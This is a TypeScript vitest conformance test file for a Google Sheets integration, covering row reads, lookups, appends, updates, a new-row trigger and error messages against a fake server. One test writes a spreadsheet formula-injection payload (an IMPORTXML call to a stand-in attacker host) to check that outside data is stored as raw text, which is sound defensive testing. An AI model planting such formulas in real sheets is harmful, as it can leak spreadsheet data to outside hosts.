import { expect, it } from 'vitest';
import { ORDERS_ID, startSheetsFake, type SheetsFake } from './fake.js';
import { describeConformance } from '../testing/conformance.js';
import { googleSheetsService } from './index.js';

const orders = { spreadsheetId: ORDERS_ID, sheet: 'Orders' };

describeConformance<SheetsFake>({
  service: googleSheetsService,
  startFake: startSheetsFake,
  basePath: '/v4',
  tokenPath: '/token',
  throttleBody: { error: { code: 429, message: "Quota exceeded for quota metric 'Read requests'", status: 'RESOURCE_EXHAUSTED' } },
  operations: {
    'google_sheets.list_sheets': {
      input: { spreadsheetId: ORDERS_ID },
      check: (out) => expect(out).toMatchObject({ title: 'Orders 2026', sheets: [{ title: 'Orders', index: 0 }, { title: 'Log', index: 1 }] }),
      badInput: { input: { spreadsheetId: 'no spaces allowed' }, field: 'spreadsheetId' },
    },
    'google_sheets.get_rows': {
      input: { ...orders, limit: 2 },
      check: (out) => expect(out).toMatchObject({ headers: ['Customer', 'Email', 'Total'], rows: [{ rowNumber: 2, values: { Customer: 'Ada', Total: '12.50' } }, { rowNumber: 3 }] }),
      badInput: { input: { ...orders, limit: 0 }, field: 'limit' },
    },
    'google_sheets.lookup_rows': {
      input: { ...orders, column: 'Email', value: 'GRACE@example.com' },
      check: (out) => expect(out).toEqual({ rows: [{ rowNumber: 3, values: { Customer: 'Grace', Email: 'grace@example.com', Total: '99' } }] }),
      badInput: { input: { ...orders, value: 'x' }, field: 'column' },
    },
    'google_sheets.append_row': {
      input: { ...orders, values: { Customer: 'Hedy', Total: 5 } },
      check: (out, fake) => {
        const rows = (fake as SheetsFake).rowsOf(ORDERS_ID, 'Orders');
        expect(rows.at(-1)).toEqual(['Hedy', '', '5']);
        expect(out).toEqual({ rowNumber: rows.length, updatedRange: `'Orders'!A${rows.length}:C${rows.length}` });
      },
      badInput: { input: { ...orders, values: {} }, field: 'values' },
    },
    'google_sheets.update_row': {
      input: { ...orders, rowNumber: 4, values: { Total: '8' } },
      check: (out, fake) => {
        expect(out).toEqual({ rowNumber: 4, updatedCells: 1 });
        expect((fake as SheetsFake).rowsOf(ORDERS_ID, 'Orders')[3]).toEqual(['Linus', 'linus@example.com', '8']);
      },
      badInput: { input: { ...orders, rowNumber: 1, values: { Total: 1 } }, field: 'rowNumber' },
    },
  },
  triggers: {
    'google_sheets.new_row': {
      config: orders,
      produce: (fake) => (fake as SheetsFake).addRow(ORDERS_ID, 'Orders', ['Katherine', 'kj@example.com', '42']),
      check: (events) => expect(events[0]).toMatchObject({ sheet: 'Orders', values: { Customer: 'Katherine', Total: '42' } }),
    },
  },
  extra(ctx) {
    it('writes outside data RAW by default, so "=..." stays text; user_entered is an explicit choice', async () => {
      const { h, fake } = ctx();
      const { appendRow } = await import('./index.js');
      await h.run(appendRow, { ...orders, values: { Customer: '=IMPORTXML("https://evil.example","//a")' } });
      expect(fake.writes.at(-1)).toEqual({ op: 'append', valueInputOption: 'RAW' });
      await h.run(appendRow, { ...orders, values: { Customer: 'x' }, valueInput: 'user_entered' });
      expect(fake.writes.at(-1)).toEqual({ op: 'append', valueInputOption: 'USER_ENTERED' });
    });
    it('names an unknown column and writes nothing', async () => {
      const { h, fake } = ctx();
      const { appendRow, updateRow } = await import('./index.js');
      const writes = fake.writes.length;
      await expect(h.run(appendRow, { ...orders, values: { Nope: 1 } })).rejects.toMatchObject({ code: 'integrations.http.bad_request', message: expect.stringContaining('no column “Nope” in sheet “Orders”') });
      await expect(h.run(updateRow, { ...orders, rowNumber: 2, values: { Nope: 1 } })).rejects.toMatchObject({ code: 'integrations.http.bad_request' });
      expect(fake.writes.length).toBe(writes);
    });
    it('an empty sheet gets the header row first; a sheet title with a quote is quoted in A1', async () => {
      const { h, fake } = ctx();
      const { appendRow } = await import('./index.js');
      expect(await h.run(appendRow, { spreadsheetId: ORDERS_ID, sheet: 'Log', values: { At: 'now', What: 'hello' } })).toMatchObject({ rowNumber: 2 });
      expect(fake.rowsOf(ORDERS_ID, 'Log')).toEqual([['At', 'What'], ['now', 'hello']]);
      fake.spreadsheets.get(ORDERS_ID)!.sheets.push({ sheetId: 7, title: "Q3 'draft'", rows: [['A']] });
      expect(await h.run(appendRow, { spreadsheetId: ORDERS_ID, sheet: "Q3 'draft'", values: { A: 1 } })).toMatchObject({ rowNumber: 2 });
    });
    it('activation refuses a new-row trigger whose spreadsheet or sheet does not exist, saying why', async () => {
      const { h } = ctx();
      const { newRow } = await import('./index.js');
      const { integrationTriggerProblems } = await import('../triggers/activation.js');
      const problems = (config: Record<string, unknown>) => integrationTriggerProblems(h.ctx, [newRow], { type: 'integration', trigger: newRow.id, mode: 'poll', pollMinutes: 5, config }, { probe: true, workspaceId: 'ws-test' });
      expect(await problems({ spreadsheetId: 'sheet-missing-000', sheet: 'Orders' })).toEqual([expect.objectContaining({ field: 'trigger.config', message: expect.stringContaining('Google Sheets says “Requested entity was not found”') })]);
      expect(await problems({ spreadsheetId: ORDERS_ID, sheet: 'Nope' })).toEqual([expect.objectContaining({ message: expect.stringContaining('Unable to parse range') })]);
      expect(await problems({ spreadsheetId: 'x' })).toEqual([expect.objectContaining({ field: 'trigger.config.spreadsheetId' })]);
    });
    it('a missing spreadsheet is a clear not-found error', async () => {
      const { h } = ctx();
      const { getRows } = await import('./index.js');
      await expect(h.run(getRows, { spreadsheetId: 'sheet-missing-000', sheet: 'Orders' })).rejects.toMatchObject({ code: 'integrations.http.not_found', message: 'Google Sheets says “Requested entity was not found”.' });
    });
  },
});
